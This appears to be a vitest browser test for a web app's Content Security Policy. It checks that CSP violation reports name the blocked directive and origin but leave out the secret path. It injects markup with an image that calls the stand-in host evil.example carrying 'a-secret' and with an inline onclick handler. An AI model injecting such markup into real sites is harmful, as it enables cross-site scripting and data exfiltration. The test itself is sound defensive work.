import { readFileSync, statSync } from 'node:fs'
import { expect, test } from 'vitest'
import { givenApplication } from '@/tests/support/given-application'
import { shareBrowser } from '@/tests/support/share-browser'

const openTab = shareBrowser({ expected: /Content Security Policy/ })

test('[ASVS 3.4.7] of what injected markup tried, a browser reports to us where, and we write down nothing else', async () => {
  const { logFile } = givenApplication()
  const start = statSync(logFile).size
  const log = () => readFileSync(logFile).subarray(start).toString()
  const page = await openTab()
  await page.goto('/login')

  await page.evaluate(() => {
    const injected = '<img src="https://evil.example/a-secret"><b onclick="document.title = 1">x</b>'
    document.body.insertAdjacentHTML('beforeend', injected)
  })

  const reported = expect.poll(log, { timeout: 10_000 })
  await reported.toContain('"directive":"img-src","blocked":"https://evil.example","page":"/login"')
  await reported.toContain('"directive":"script-src-attr","blocked":"inline","page":"/login"')
  expect(log()).not.toContain('a-secret')
})
